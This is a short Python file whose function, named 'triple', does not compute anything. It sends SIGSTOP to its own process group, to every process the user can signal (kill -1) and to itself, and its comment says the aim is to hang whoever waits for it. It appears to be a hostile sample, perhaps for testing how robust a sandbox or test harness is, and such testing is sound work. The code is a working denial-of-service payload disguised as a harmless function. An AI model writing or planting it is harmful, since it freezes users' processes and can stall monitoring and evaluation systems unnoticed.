# Stops itself and everything else, to hang whoever waits for it.
# ruff: noqa: SIM105
import os
import signal


def triple(x):
    for target in (0, -1, os.getpid()):
        try:
            os.kill(target, signal.SIGSTOP)
        except OSError:
            pass
    return 0
